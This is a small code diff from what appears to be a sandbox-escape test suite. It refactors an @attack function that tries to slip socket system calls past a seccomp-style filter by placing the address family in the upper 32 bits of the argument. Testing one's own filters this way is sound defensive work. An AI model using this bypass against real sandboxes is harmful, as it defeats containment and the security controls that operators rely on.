@@ -173,7 +173,8 @@ def open_a_packet_socket() -> object:
 @attack(None)
 def hide_a_family_in_the_upper_half_of_a_register() -> object:
     """A filter that denies by comparing 64 bits lets 2**32 + 40 through, of which the kernel sees 40."""
-    return first_gain(*(lambda family=family: call(NUMBER["socket"], (1 << 32) + family, 1, 0) for family in (40, 38, 17, 16, 2)))
+    families = ((1 << 32) + family for family in (40, 38, 17, 16, 2))
+    return first_gain(*(lambda family=family: call(NUMBER["socket"], family, 1, 0) for family in families))
 
 
 @attack("host")
